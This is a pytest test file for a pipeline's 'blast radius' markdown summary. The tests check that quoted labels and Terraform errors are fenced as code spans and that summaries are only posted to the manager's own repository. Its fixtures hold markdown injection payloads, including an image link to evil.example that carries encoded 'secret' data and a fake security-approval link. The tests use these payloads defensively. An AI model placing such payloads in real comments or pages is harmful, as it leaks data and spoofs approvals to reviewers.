"""Issue 19 #8: the blast-radius summary cannot be bent by what it quotes (the module label from run config,
Terraform's first error line about HCL or variables others wrote), and it is posted only on the manager's
own repository, whatever pull request a run's config names."""

from __future__ import annotations

import pytest

from manager_pipeline.fleet import summary as blast_radius
from manager_pipeline.fleet.planner import Partition, PartitionPlan
from manager_pipeline.markdown import inline_code

pytestmark = pytest.mark.integration

LABEL = "[approved by security](https://evil.example/x) @acme/admins"
ERROR = 'Error: ![pixel](https://evil.example/p?d=c2VjcmV0) </details> | @acme/admins `x` [link](https://evil.example)'


def test_the_label_and_each_error_line_are_code_spans():
    markdown = blast_radius.render([PartitionPlan(Partition("app", "staging"), error=ERROR)], LABEL)
    assert f"### Blast radius of module {inline_code(LABEL)}" in markdown
    assert f"- **app/staging**: {inline_code(ERROR)}" in markdown
    # Outside the code spans nothing of theirs is left: no link, image, mention or table cell.
    outside = markdown.replace(inline_code(LABEL), "").replace(inline_code(ERROR), "")
    assert "evil.example" not in outside and "@acme" not in outside


def fleet_run(manager, comment_on: str):
    from manager_pipeline.defs.fleet import FLEET_JOB
    from manager_pipeline.defs.instance import open_instance
    from manager_pipeline.defs.location import build_definitions

    settings = manager.settings()
    job = build_definitions(settings).resolve_job_def(FLEET_JOB)
    config = {"environments": ["staging"], "comment_on": comment_on}
    return job.execute_in_process(
        instance=open_instance(settings),
        run_config={"ops": {"plan_partitions": {"config": config}}},
        raise_on_error=False,
    )


def failure_of(result) -> str:
    from manager_pipeline.cli.common import failure_message

    return failure_message(result)


@pytest.mark.parametrize(
    "own, expected",
    [
        ("acme/manager-pipeline", "comment_on `acme/payments` is not the manager's repository (acme/manager-pipeline)"),
        (None, "the summary goes only to the manager's own repository: set MANAGER_REPOSITORY=owner/name"),
    ],
)
def test_a_summary_for_another_repository_is_refused_before_anything_is_planned(manager, monkeypatch, own, expected):
    if own:
        monkeypatch.setenv("MANAGER_REPOSITORY", own)
    result = fleet_run(manager, "acme/payments#12")
    assert not result.success
    assert expected in failure_of(result)
    assert manager.cli("plans").stdout.count("staging|app") == 0  # refused before any plan
